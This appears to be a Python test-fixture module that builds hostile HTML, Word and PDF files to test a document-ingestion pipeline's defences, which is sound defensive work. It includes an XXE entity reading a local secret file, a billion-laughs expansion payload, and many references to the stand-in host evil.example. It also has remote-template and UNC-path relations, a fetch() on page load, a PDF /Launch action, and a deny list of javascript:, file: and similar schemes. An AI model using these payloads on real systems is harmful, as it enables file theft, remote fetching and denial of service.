"""Files that came by e-mail from someone who means harm; each is made here."""

import zipfile
from pathlib import Path

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml"

LURES = ("javascript:", "file:", "//evil.example", "\\\\evil.example", "data:", "vbscript:")
"""What no text that was taken in may hold as an address."""

REPORT = "Recommendation 1: The Government should fund small charities for at least three years at a time."

LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{each} '{f'&a{each - 1};' * 10}'>" for each in range(1, 12)
)
"""Entities of entities: a few lines that would unfold to a hundred thousand million."""


def lured_html(folder: Path) -> Path:
    """A page that wants pictures, styles, frames and programs from elsewhere."""
    secret = folder / "secret.txt"
    secret.write_text("SECRET", encoding="utf-8")
    page = folder / "lured.html"
    page.write_text(
        f"""<!DOCTYPE html [<!ENTITY x SYSTEM "{secret.as_uri()}">]>
        <html><head><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
        <meta http-equiv="refresh" content="0; url=http://evil.example/"><style>
        @import url(//evil.example/b.css); p {{ background: url(http://evil.example/c.png) }}</style>
        <script src="http://evil.example/d.js"></script></head><body onload="fetch('http://evil.example/e')">
        <img src="http://evil.example/f.png"><img src="//evil.example/g.png">
        <img src="\\\\evil.example\\h.png">
        <img src="file://evil.example/i.png"><img src="{secret.as_uri()}">
        <iframe src="{secret.as_uri()}"></iframe>
        <object data="{secret.as_uri()}"></object><embed src="{secret.as_uri()}"><video src="http://evil.example/j">
        </video><svg><image href="http://evil.example/k.svg"/></svg><p>&x;{REPORT}</p>
        <p>Read <a href="javascript:alert(1)">this</a>, <a href="{secret.as_uri()}">that</a>,
        <a href="//evil.example/l">more</a>, <a href="data:text/html,x">still more</a> and
        <a href=" VBScript:x">the rest</a> of it.</p></body></html>""",
        encoding="utf-8",
    )
    return page


def a_docx(path: Path, parts: dict[str, str | bytes]) -> Path:
    """A package of parts, whatever they are."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return path


def types(main: str = f"{OFFICE}.document.main+xml") -> str:
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def relations(*rows: tuple[str, str, str]) -> str:
    said = "".join(
        f'<Relationship Id="r{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{said}</Relationships>'


def document(body: str, *, before: str = "") -> str:
    return f'{before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}<w:sectPr/></w:body></w:document>'


def a_paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word_parts(body: str = "", *, before: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    """The least that is a Word file, with a body."""
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": document(body or a_paragraph(REPORT), before=before),
        **more,
    }


def lured_docx(folder: Path) -> Path:
    """A Word file whose pictures, template, chunks, fields and links lie elsewhere."""
    secret = folder / "secret.txt"
    secret.write_text("SECRET", encoding="utf-8")
    outside = ' TargetMode="External"'
    body = (
        a_paragraph(REPORT)
        + f'<w:p><w:hyperlink r:id="r0"><w:r><w:t>Read more {"of it " * 10}</w:t></w:r></w:hyperlink></w:p>'
        + '<w:altChunk r:id="r1"/><w:subDoc r:id="r2"/>'
        + f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{secret}&quot;">'
        + "<w:r><w:t>Included</w:t></w:r></w:fldSimple>"
        + '</w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
        + '"http://evil.example/a.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    rows = (
        ("hyperlink", "javascript:alert(1)", outside),
        ("aFChunk", secret.as_uri(), outside),
        ("subDocument", "http://evil.example/b.docx", outside),
        ("image", "http://evil.example/c.png", outside),
        ("image", "file://evil.example/d.png", outside),
        ("oleObject", "\\\\evil.example\\e.bin", outside),
    )
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="r0"/></w:settings>'
    remote = relations(("attachedTemplate", "http://evil.example/f.dotm", outside))
    parts = word_parts(
        body,
        **{
            "word/_rels/document.xml.rels": relations(*rows),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": remote,
        },
    )
    return a_docx(folder / "lured.docx", parts)


def lured_pdf(folder: Path) -> Path:
    """A paper that wants to open an address, start a program and send a form."""
    from tests.reports.papers import Page, a_pdf  # noqa: PLC0415 - only where a PDF is wanted

    page = Page().paragraph(REPORT[:60], REPORT[60:])
    action = "/OpenAction << /S /URI /URI (http://evil.example/a) >>"
    made: Path = a_pdf(
        folder, page, name="lured.pdf", trailer=f"{action} /AA << /O << /S /Launch /F (calc) >> >>"
    )
    return made
